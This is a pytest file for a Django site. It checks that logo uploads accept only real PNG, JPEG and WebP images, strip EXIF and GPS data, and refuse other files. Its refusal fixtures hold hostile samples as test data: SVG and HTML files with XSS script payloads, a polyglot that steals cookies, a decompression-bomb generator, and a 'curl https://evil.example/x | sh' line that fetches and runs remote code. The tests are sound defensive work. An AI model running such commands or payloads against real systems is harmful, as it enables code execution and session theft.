"""Every upload field, through its real form: only PNG, JPEG and WebP by content, re-encoded without EXIF (issue 6).

UPLOADS names each place a file can be uploaded (the site's logo, an organisation's logo when editing and when
creating). For each: the three image formats are stored re-encoded, under a name that says what they are; a phone
photo's EXIF with its GPS position is gone from the stored file; everything else (SVG, also named .png, HTML,
programs, scripts, PDF, ZIP, a PNG header in front of HTML, GIF) is refused with a clear message in Danish and
English, as are files over the size limit and decompression bombs. A refusal saves nothing, and the form keeps
what the person typed. The guard at the end finds every file field of our models and forms.
"""

import importlib
import inspect
import io
import pkgutil
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from django import forms
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import models
from django.urls import reverse
from PIL import Image

import frivillig
from tests.module_data import FAST_HASHERS, built_once
from tests.signin import sign_in

MODEL_BACKEND = "django.contrib.auth.backends.ModelBackend"
TYPED_NAME = "Skrevet før fejlen Æøå"
GPS_IFD, MAKE = 0x8825, 0x010F
GPS_LATITUDE_REF, GPS_LATITUDE = 1, 2


@dataclass(frozen=True)
class Upload:
    role: str
    url: Callable  # cast -> path
    data: Callable  # cast -> the form's other fields, as the person typed them
    name_field: str  # a text field of the form, typed as TYPED_NAME to see that it is kept
    stored: Callable  # cast -> the stored FieldFile after the post (empty if nothing was saved)


def _config_data(cast) -> dict:
    from django.forms.models import model_to_dict

    from frivillig.core.forms import SiteConfigurationForm
    from frivillig.core.models import SiteConfiguration

    fields = [name for name in SiteConfigurationForm.Meta.fields if name != "logo"]
    return model_to_dict(SiteConfiguration.get(), fields=fields) | {"portal_name": TYPED_NAME}


def _config_logo(cast):
    from frivillig.core.models import SiteConfiguration

    return SiteConfiguration.objects.get(pk=1).logo


def _organisation_data(cast) -> dict:
    organisation = cast["A"]
    names = ["cvr", "description", "description_language", "website", "contact_name", "contact_email",
             "contact_phone", "street_address", "postcode", "city"]
    return {name: getattr(organisation, name) for name in names} | {"kind": organisation.kind, "name": TYPED_NAME}


def _organisation_logo(cast):
    return type(cast["A"]).objects.get(pk=cast["A"].pk).logo


def _new_organisation_data(cast) -> dict:
    return {"kind": "association", "name": TYPED_NAME, "cvr": "10150817", "description": "Vi hjælper.",
            "description_language": "da", "contact_email": "ny@example.org", "postcode": "2000", "accept_terms": "on"}


def _new_organisation_logo(cast):
    organisation = type(cast["A"]).objects.filter(name=TYPED_NAME).first()
    return organisation.logo if organisation else None


UPLOADS: dict[str, Upload] = {
    "core.SiteConfiguration.logo": Upload(
        "dorte", lambda cast: reverse("core:site_configuration"), _config_data, "portal_name", _config_logo
    ),
    "organisations.Organisation.logo": Upload(
        "bo", lambda cast: reverse("organisations:edit", kwargs={"slug": cast["A"].slug}), _organisation_data,
        "name", _organisation_logo,
    ),
    "organisations.Organisation.logo@create": Upload(
        "ane", lambda cast: reverse("organisations:create"), _new_organisation_data, "name", _new_organisation_logo
    ),
}
# The forms each upload goes through (the guard checks that every form with a file field is one of them).
FORMS = {
    "frivillig.core.forms.SiteConfigurationForm": "core.SiteConfiguration.logo",
    "frivillig.organisations.forms.OrganisationForm": "organisations.Organisation.logo",
    "frivillig.organisations.forms.OrganisationCreateForm": "organisations.Organisation.logo@create",
}

# --- files ---------------------------------------------------------------------------------------------------


def image(fmt: str, *, size=(40, 20), gps: bool = False) -> bytes:
    picture = Image.new("RGB", size, "#0b5a3e")
    buffer = io.BytesIO()
    if gps:
        exif = Image.Exif()
        exif[MAKE] = "SecretCam"
        exif.get_ifd(GPS_IFD).update({GPS_LATITUDE_REF: "N", GPS_LATITUDE: (55.0, 40.0, 43.0)})
        picture.save(buffer, format=fmt, exif=exif.tobytes())
    else:
        picture.save(buffer, format=fmt)
    return buffer.getvalue()


def png_header(width: int, height: int, rows: bytes = b"\x00") -> bytes:
    """A small PNG that claims to be `width` × `height` pixels: a decompression bomb opens as one."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def gif() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (4, 4)).save(buffer, format="GIF")
    return buffer.getvalue()


def zip_file() -> bytes:
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("logo.png", image("PNG"))
    return buffer.getvalue()


SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
REFUSED = {
    "svg": ("logo.svg", SVG),
    "svg named png": ("logo.png", SVG),
    "html": ("logo.html", b"<!doctype html><html><body><script>alert(1)</script></body></html>"),
    "html named png": ("logo.png", b"<html><body><img src=x onerror=alert(1)></body></html>"),
    "windows exe": ("logo.exe", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44
                    + b"\x80\x00\x00\x00" + b"\x00" * 64 + b"PE\x00\x00L\x01" + b"\x00" * 200),
    "elf": ("logo.png", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00>\x00" + b"\x00" * 200),
    "shell script": ("logo.png", b"#!/bin/sh\ncurl https://evil.example/x | sh\n"),
    "pdf": ("logo.pdf", b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"),
    "zip": ("logo.zip", zip_file()),
    "png header then html": ("logo.png", b"\x89PNG\r\n\x1a\n<html><script>alert(1)</script></html>" + b" " * 64),
    "gif": ("logo.gif", gif()),
}
# What each refusal says, in Danish and English.
NOT_AN_IMAGE = ("Du kan kun uploade billeder i PNG, JPEG og WebP. SVG, HTML og programmer bliver afvist.",
                "Only PNG, JPEG and WebP images can be uploaded. SVG, HTML and programs are refused.")
UNREADABLE = ("Billedet kunne ikke læses. Prøv en anden fil.", "The image could not be read. Please try another file.")
TOO_MANY_PIXELS = ("Billedet er for stort. Det må højst være 4096 × 4096 pixels.",
                   "The image is too large. The limit is 4096 × 4096 pixels.")
MESSAGES = {name: UNREADABLE if name == "png header then html" else NOT_AN_IMAGE for name in REFUSED}
BOMBS = {
    "too many pixels": (png_header(5000, 5000), TOO_MANY_PIXELS),
    "decompression bomb": (png_header(30000, 30000), UNREADABLE),
}

# --- the site, once per module --------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def site(django_db_setup, django_db_blocker):
    from frivillig.core.cast import build_cast

    with built_once(django_db_blocker):
        yield build_cast()


@pytest.fixture
def media(site, db, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    settings.PASSWORD_HASHERS = FAST_HASHERS
    cache.clear()  # the configuration is cached, and rate limits count there
    return tmp_path


def post(client, cast, upload: Upload, file: SimpleUploadedFile, language: str = "da"):
    force_login = client.force_login
    client.force_login = lambda person: force_login(person, backend=MODEL_BACKEND)
    sign_in(client, cast.users[upload.role])
    client.cookies["django_language"] = language
    return client.post(upload.url(cast), upload.data(cast) | {"logo": file})


def stored_files(media: Path) -> list[Path]:
    return [path for path in media.rglob("*") if path.is_file()]


# --- the tests -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["PNG", "JPEG", "WEBP"])
@pytest.mark.parametrize("upload", list(UPLOADS))
def test_an_image_is_stored_re_encoded_and_named_for_its_format(upload, fmt, site, client, media):
    spec = UPLOADS[upload]
    response = post(client, site, spec, SimpleUploadedFile("mit logo.html", image(fmt, gps=True)))
    assert response.status_code == 302, response.content.decode()[:2000]
    stored = spec.stored(site)
    assert Path(stored.name).suffix == {"PNG": ".png", "JPEG": ".jpg", "WEBP": ".webp"}[fmt]
    content = (media / stored.name).read_bytes()
    picture = Image.open(io.BytesIO(content))
    assert picture.format == fmt
    assert b"SecretCam" not in content


@pytest.mark.parametrize("upload", list(UPLOADS))
def test_a_photos_exif_and_gps_position_are_not_stored(upload, site, client, media):
    spec = UPLOADS[upload]
    original = image("JPEG", gps=True)
    assert Image.open(io.BytesIO(original)).getexif().get_ifd(GPS_IFD), "the photo must carry a GPS position"
    response = post(client, site, spec, SimpleUploadedFile("foto.jpg", original, content_type="image/jpeg"))
    assert response.status_code == 302
    content = (media / spec.stored(site).name).read_bytes()
    stored = Image.open(io.BytesIO(content))
    assert not stored.getexif()
    assert not stored.getexif().get_ifd(GPS_IFD)
    assert "exif" not in stored.info
    assert b"Exif" not in content and b"SecretCam" not in content


def test_what_follows_the_image_data_is_not_stored(site, client, media):
    spec = UPLOADS["organisations.Organisation.logo"]
    polyglot = image("PNG") + b"<html><script>alert(document.cookie)</script></html>"
    assert post(client, site, spec, SimpleUploadedFile("logo.png", polyglot)).status_code == 302
    assert b"<script>" not in (media / spec.stored(site).name).read_bytes()


def assert_refused(response, cast, spec: Upload, media: Path, message: str) -> None:
    html = response.content.decode()
    assert response.status_code == 200
    assert 'id="id_logo-error"' in html or "id_logo-error" in html
    assert message in html, f"the message {message!r} is missing"
    assert f'value="{TYPED_NAME}"' in html, "the form lost what was typed"
    assert not spec.stored(cast)
    assert not stored_files(media)


@pytest.mark.parametrize("language", ["da", "en"])
@pytest.mark.parametrize("kind", list(REFUSED))
@pytest.mark.parametrize("upload", list(UPLOADS))
def test_what_is_not_an_allowed_image_is_refused_clearly(upload, kind, language, site, client, media):
    spec, (name, content) = UPLOADS[upload], REFUSED[kind]
    response = post(client, site, spec, SimpleUploadedFile(name, content, content_type="image/png"), language)
    assert_refused(response, site, spec, media, MESSAGES[kind][language == "en"])


@pytest.mark.parametrize("language", ["da", "en"])
@pytest.mark.parametrize("upload", list(UPLOADS))
def test_a_file_over_the_limit_is_refused(upload, language, site, client, media, settings):
    content = image("PNG")
    settings.LOGO_MAX_BYTES = len(content) - 1
    spec = UPLOADS[upload]
    response = post(client, site, spec, SimpleUploadedFile("logo.png", content), language)
    limit = f"{len(content) - 1}\xa0bytes"
    message = {"da": f"Filen er for stor. Den må højst fylde {limit}.",
               "en": f"The file is too big. The limit is {limit}."}[language]
    assert_refused(response, site, spec, media, message)


@pytest.mark.parametrize("bomb", list(BOMBS))
@pytest.mark.parametrize("upload", list(UPLOADS))
def test_a_decompression_bomb_is_refused(upload, bomb, site, client, media):
    spec, (content, message) = UPLOADS[upload], BOMBS[bomb]
    response = post(client, site, spec, SimpleUploadedFile("logo.png", content))
    assert_refused(response, site, spec, media, message[0])


def test_a_file_too_big_for_memory_is_re_encoded_too(site, client, media, settings):
    """Django keeps a big upload in a temporary file and moves that file into place: the clean image must be in it."""
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 10
    spec = UPLOADS["organisations.Organisation.logo"]
    assert post(client, site, spec, SimpleUploadedFile("foto.jpg", image("JPEG", gps=True))).status_code == 302
    content = (media / spec.stored(site).name).read_bytes()
    assert b"SecretCam" not in content
    assert not Image.open(io.BytesIO(content)).getexif()


# --- guard: every file field of our models and forms is listed and checked -------------------------------------


def our_form_classes() -> set[type]:
    for module in pkgutil.walk_packages(frivillig.__path__, "frivillig."):
        if module.name.endswith("forms") and ".tests" not in module.name:
            importlib.import_module(module.name)
    found, queue = set(), [forms.BaseForm]
    while queue:
        for subclass in queue.pop().__subclasses__():
            queue.append(subclass)
            if subclass.__module__.startswith("frivillig."):
                found.add(subclass)
    return found


def test_every_upload_field_is_listed_and_checked_by_content():
    from django.apps import apps

    model_fields = {f"{model._meta.label}.{field.name}" for model in apps.get_models()
                    if model.__module__.startswith("frivillig.") for field in model._meta.concrete_fields
                    if isinstance(field, models.FileField)}
    assert model_fields == {key.split("@")[0] for key in UPLOADS}, "A new file field: add it to UPLOADS"
    with_files = {}
    for form_class in our_form_classes():
        names = [name for name, field in form_class.base_fields.items() if isinstance(field, forms.FileField)]
        if names:
            with_files[f"{form_class.__module__}.{form_class.__qualname__}"] = (form_class, names)
    assert set(with_files) == set(FORMS), "A form with a file field: add it to FORMS (and its page to UPLOADS)"
    for label, (form_class, names) in with_files.items():
        for name in names:
            clean = getattr(form_class, f"clean_{name}", None)
            assert clean and "validate_image_upload" in inspect.getsource(clean), f"{label}.{name} is not checked"
